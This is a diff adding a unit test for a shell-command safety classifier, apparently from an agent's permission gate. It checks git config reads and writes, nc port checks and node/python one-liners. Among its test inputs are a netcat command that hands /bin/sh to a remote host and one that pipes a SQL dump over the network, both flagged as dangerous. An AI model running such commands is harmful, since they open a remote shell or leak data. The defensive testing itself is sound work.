@@ -211,3 +211,25 @@ Test(shell_queries, inline_code_that_only_prints_runs_silently)
     shellt_expect("php -i", RISKY, "bash.interpreter");
     shellt_expect("python3 -m pip install requests", RISKY, "bash.interpreter");
 }
+
+Test(shell_queries, one_key_git_config_port_checks_and_pure_modules_read)
+{
+    shellt_expect("git config user.name", SAFE, NULL);
+    shellt_expect("git config --global --show-origin core.editor", SAFE, NULL);
+    shellt_expect("git config -f .gitmodules submodule.lib.url", SAFE, NULL);
+    shellt_expect("git config user.name bob", RISKY, "bash.git");
+    shellt_expect("git config --unset user.name", RISKY, "bash.git");
+    shellt_expect("git config $KEY", RISKY, "bash.git");
+    shellt_expect("nc -zv localhost 5432", SAFE, NULL);
+    shellt_expect("nc -z -w2 db 5432", SAFE, NULL);
+    shellt_expect("nc -z -e /bin/sh h 22", CRIT, "critical.shell_unseen_text");   /* -e hands a shell over (gate6) */
+    shellt_expect("nc db 5432 < dump.sql", DESTR, "bash.network_send");
+    shellt_expect("iconv -f latin1 -t utf-8 old.txt", SAFE, NULL);
+    shellt_expect("iconv -f latin1 -t utf-8 old.txt -o new.txt", RISKY, "bash.unknown_program");
+    shellt_expect("uuidgen", SAFE, NULL);
+    shellt_expect("namei -l /var/www", SAFE, NULL);
+    shellt_expect("node -e \"console.log(require('os').cpus().length)\"", SAFE, NULL);
+    shellt_expect("python3 -c 'import uuid; print(uuid.uuid4())'", SAFE, NULL);
+    shellt_expect("node -e \"require('child_process').execSync('id')\"", RISKY, "bash.interpreter");
+    shellt_expect("node -e \"console.log(require('fs').readFileSync('x'))\"", RISKY, "bash.interpreter");
+}
